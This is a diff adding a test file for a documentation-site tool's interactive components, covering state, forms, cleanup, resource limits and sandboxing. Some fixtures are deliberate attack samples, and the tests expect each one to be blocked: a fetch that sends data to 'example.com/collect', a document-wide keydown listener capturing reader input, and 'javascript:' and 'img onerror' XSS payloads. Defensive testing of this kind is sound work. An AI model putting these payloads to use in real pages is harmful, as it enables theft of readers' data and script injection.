@@ -1,0 +1,320 @@
+import assert from 'node:assert/strict';
+import {readFile} from 'node:fs/promises';
+import {join} from 'node:path';
+import {describe, it} from 'node:test';
+import {builtSite} from '../harness/built-site.mjs';
+import {folderWith, runCommand} from '../harness/command.mjs';
+import {openSingleFile} from '../harness/open-single-file.mjs';
+import {openSite} from '../harness/open-site.mjs';
+import {inDialog, openSearch} from '../harness/search-dialog.mjs';
+import {root} from '../harness/sources.mjs';
+import {newPageFor} from '../harness/browser.mjs';
+import {strictPolicy} from '../harness/strict-policy.mjs';
+
+const headers = {'Content-Security-Policy': strictPolicy};
+
+/** A page that shows the component `Part`, whose code is this. */
+const pageWith = (code, tag = '<Part />') => `---
+title: Part
+---
+
+${code.trim()}
+
+${tag}
+`;
+
+const counter = `
+export const Part = () => {
+  const [count, setCount] = useState(0);
+  return (
+    <div>
+      <button onClick={() => setCount(count + 1)}>Add one</button>
+      <output>{count} clicks</output>
+      {count > 1 && <Note>More than one.</Note>}
+    </div>
+  );
+};
+`;
+
+const config = {name: 'Acme', navigation: {pages: ['part', 'other']}};
+const other = '---\ntitle: Other\n---\n\nAnother page.\n';
+
+/** Opens a site with one page that shows `Part`. */
+function openPart(t, code, {files = {}, tag, ...options} = {}) {
+  const page = pageWith(code, tag);
+  return openSite(t, {
+    files: {'docs.json': config, 'part.mdx': page, 'other.mdx': other, ...files},
+    headers,
+    route: '#/part',
+    ...options,
+  });
+}
+
+const textOf = (page, selector) => page.$eval(selector, ({textContent}) => textContent.trim());
+
+describe('components that react', () => {
+  it('change what they show, under a strict policy', async (t) => {
+    const site = await openPart(t, counter);
+    await site.says('0 clicks');
+    await site.click('button', 'Add one');
+    assert.equal(await textOf(site.page, 'output'), '1 clicks');
+    await site.page.keyboard.press('Enter');
+    assert.equal(await textOf(site.page, 'output'), '2 clicks');
+    await site.says('More than');
+    assert.equal(await site.page.evaluate(() => document.activeElement.textContent), 'Add one');
+    assert.deepEqual(site.problems, []);
+  });
+
+  it('load nothing on pages without them', async (t) => {
+    const plain = 'export const Part = ({n = 2}) => <b>{n * 2} parts</b>;';
+    const site = await openPart(t, plain);
+    await site.says('4 parts');
+    await site.settled();
+    const requested = () => site.server.requests.filter((url) => /\/interactive\.js/.test(url));
+    assert.deepEqual(requested(), []);
+    const reacting = await openPart(t, counter);
+    await reacting.says('0 clicks');
+    assert.equal(
+      reacting.server.requests.some((url) => /\/interactive\.js/.test(url)),
+      true,
+    );
+  });
+
+  it('have forms, whose fields show what the state says', async (t) => {
+    const site = await openPart(
+      t,
+      `
+export const Part = () => {
+  const [names, setNames] = useState([]);
+  const [name, setName] = useState('');
+  const field = useRef(null);
+  const add = (event) => {
+    event.preventDefault();
+    setNames([...names, name]);
+    setName('');
+    field.current.focus();
+  };
+  return (
+    <form onSubmit={add}>
+      <input ref={field} aria-label="Name" required value={name}
+        onChange={(event) => setName(event.target.value.toUpperCase())} />
+      <button>Add</button>
+      <output>{names.join(' and ')}</output>
+    </form>
+  );
+};`,
+    );
+    const field = await site.find('textbox', 'Name');
+    await field.type('ada');
+    assert.equal(await field.evaluate(({value}) => value), 'ADA');
+    await site.page.keyboard.press('Enter');
+    assert.equal(await textOf(site.page, 'output'), 'ADA');
+    // An empty field that is required keeps the form from being submitted.
+    await site.click('button', 'Add');
+    assert.equal(await textOf(site.page, 'output'), 'ADA');
+    await field.type('Bob');
+    await site.click('button', 'Add');
+    assert.equal(await textOf(site.page, 'output'), 'ADA and BOB');
+    assert.equal(await field.evaluate((element) => element === document.activeElement), true);
+    assert.equal(
+      site.server.requests.some((url) => url.includes('?')),
+      false,
+    );
+  });
+
+  it('end with their page: timers, listeners and effects', async (t) => {
+    const site = await openPart(
+      t,
+      `
+export const Part = () => {
+  const [ticks, setTicks] = useState(0);
+  useEffect(() => {
+    const timer = setInterval(() => setTicks((before) => before + 1), 10);
+    const listen = () => setTicks(1000);
+    window.addEventListener('resize', listen);
+    return () => {
+      localStorage.setItem('ended', 'yes');
+    };
+  }, []);
+  useEffect(() => { localStorage.setItem('ticks', ticks); }, [ticks]);
+  return <output>{ticks > 2 ? 'It ticks' : 'It begins'}</output>;
+};`,
+    );
+    await site.says('It ticks');
+    const stored = () =>
+      site.page.evaluate(() => {
+        const key = Object.keys(localStorage).find((name) => name.endsWith('#code'));
+        return Object.fromEntries(JSON.parse(localStorage.getItem(key)));
+      });
+    await site.goTo('#/other');
+    await site.shown('other');
+    await site.says('Another page.');
+    const {ticks, ended} = await stored();
+    assert.equal(ended, 'yes');
+    // Frames come later than what a timer of ten milliseconds would do.
+    await site.page.evaluate(async () => {
+      for (let frames = 0; frames < 20; frames++) await new Promise(requestAnimationFrame);
+      dispatchEvent(new Event('resize'));
+      await new Promise(requestAnimationFrame);
+    });
+    assert.equal((await stored()).ticks, ticks);
+    await site.goBack();
+    await site.shown('part');
+    await site.says('It ticks');
+  });
+
+  it('read files of the site, and ask no other host', async (t) => {
+    const site = await openPart(
+      t,
+      `
+export const Part = () => {
+  const [text, setText] = useState('Loading');
+  useEffect(() => {
+    const load = async () => {
+      const response = await fetch('/data.json');
+      const {name} = await response.json();
+      try {
+        await fetch('https://example.com/collect?name=' + name);
+      } catch (error) {
+        setText(name + ', but ' + error.message);
+      }
+    };
+    load();
+  }, []);
+  return <output>{text}</output>;
+};`,
+      {files: {'data.json': {name: 'Ada'}}, isAuthors: true},
+    );
+    await site.says('Ada, but requests “https://example.com/collect?name=Ada”');
+    assert.deepEqual(site.problems, []);
+  });
+
+  it('stop when they do too much, and the rest of the page lives', async (t) => {
+    const site = await openPart(
+      t,
+      `
+export const Part = () => {
+  const [count, setCount] = useState(0);
+  return <button onClick={() => { setCount(1); for (;;) count + 1; }}>Loop {count}</button>;
+};
+export const Endless = () => {
+  const [count, setCount] = useState(0);
+  const [isOn, setOn] = useState(false);
+  useEffect(() => { if (isOn) setCount(count + 1); });
+  return <button onClick={() => setOn(true)}>Endless</button>;
+};
+export const Timers = () => {
+  const start = () => { for (let n = 0; n < 5000; n++) setTimeout(() => {}, 1000); };
+  return <button onClick={start}>Timers</button>;
+};
+export const Calm = () => {
+  const [count, setCount] = useState(0);
+  return <button onClick={() => setCount(count + 1)}>Calm {count}</button>;
+};`,
+      {tag: '<Part /> <Endless /> <Timers /> <Calm />', isAuthors: true},
+    );
+    for (const name of ['Loop 0', 'Endless', 'Timers']) await site.click('button', name);
+    await site.click('button', 'Calm 0');
+    await site.find('button', 'Calm 1');
+    await site.find('button', 'Loop 0');
+    const problems = await site.page.waitForSelector('>>> docs-problems');
+    const messages = await problems.evaluate(({diagnostics}) =>
+      diagnostics.map(({message}) => message).filter((message) => message.includes('reacts')),
+    );
+    assert.deepEqual(messages, [
+      '<Part> no longer reacts: its code needs more than 100000 steps at once.',
+      '<Endless> no longer reacts: its code changes its state more than 50 times in a row.',
+      '<Timers> no longer reacts: its code starts more than 1000 timers.',
+    ]);
+  });
+
+  it('never learn what readers enter outside of them', async (t) => {
+    const site = await openPart(
+      t,
+      `
+export const Part = () => {
+  const [keys, setKeys] = useState('');
+  useEffect(() => {
+    const note = (event) => setKeys((before) => before + event.key);
+    document.addEventListener('keydown', note);
+    return () => document.removeEventListener('keydown', note);
+  }, []);
+  return <div><input aria-label="Own" /><output>Keys: {keys}</output></div>;
+};`,
+    );
+    await (await site.find('textbox', 'Own')).type('a');
+    assert.equal(await textOf(site.page, 'output'), 'Keys: a');
+    await openSearch(site);
+    await site.page.keyboard.type('secret');
+    await inDialog(site, (dialog) => dialog.activeElement?.value === 'secret');
+    assert.doesNotMatch(await textOf(site.page, 'output'), /[secrt]{2}/);
+  });
+
+  it('keep to the rules for what pages show', async (t) => {
+    const site = await openPart(
+      t,
+      `
+export const Part = () => {
+  const [url, setUrl] = useState('/other');
+  const attack = (event) => {
+    setUrl('java' + 'script:window.stolen=1');
+    event.currentTarget.innerHTML = '<img src=x onerror="window.stolen=1">';
+  };
+  return (
+    <div>
+      <button onClick={attack}>Attack</button>
+      <a id="target" href={url} style={{backgroundImage: 'url(' + url + ')'}} onclick={url}>Link</a>
+      <iframe title="Frame" srcdoc={url} />
+    </div>
+  );
+};`,
+    );
+    await site.click('button', 'Attack');
+    const link = await site.page.$eval('#target', (element) => ({
+      href: element.getAttribute('href'),
+      names: element.getAttributeNames().join(),
+      background: element.style.backgroundImage,
+    }));
+    assert.deepEqual(link, {href: null, names: 'id', background: ''});
+    assert.equal(await site.page.$eval('iframe', (frame) => frame.hasAttribute('srcdoc')), false);
+    assert.equal(await site.page.evaluate(() => 'stolen' in window), false);
+  });
+
+  it('show their first state in built pages, and react there and in one file', async (t) => {
+    const files = {
+      'docs.json': JSON.stringify(config),
+      'part.mdx': pageWith(counter),
+      'other.mdx': other,
+    };
+    const built = await builtSite(t, files);
+    const html = await readFile(join(built.out, 'part.html'), 'utf8');
+    assert.match(html, /<output[^>]*>0 clicks<\/output>/);
+    assert.doesNotMatch(html, /<button[^>]*onclick/i);
+    const page = await newPageFor(t);
+    await page.goto(`${built.url}part`);
+    await page.waitForSelector('docs-site[data-path="part"]');
+    await (await page.waitForSelector('::-p-aria([name="Add one"][role="button"])')).click();
+    await page.waitForSelector('::-p-text(1 clicks)');
+
+    const file = join(await folderWith(t), 'site.html');
+    const {code, error} = await runCommand(['build', built.folder, '--single-file', file]);
+    assert.equal(code, 0, error);
+    const single = await openSingleFile(t, file, '#/part');
+    await single.shown('part');
+    const button = await single.page.waitForSelector('::-p-aria([name="Add one"][role="button"])');
+    await button.click();
+    await single.page.waitForSelector('::-p-text(1 clicks)');
+    assert.deepEqual(single.faults, []);
+  });
+});
+
+describe('the guide to components that react', () => {
+  it('shows the source of each of its examples', async () => {
+    const page = await readFile(join(root, 'demo/guide/interactive-components.mdx'), 'utf8');
+    const fences = [...page.matchAll(/^```jsx (snippets\/\S+)\n([^]*?)^```/gm)];
+    assert.equal(fences.length, 5);
+    for (const [, file, source] of fences) {
+      assert.equal(source, await readFile(join(root, 'demo', file), 'utf8'), file);
+    }
+  });
+});
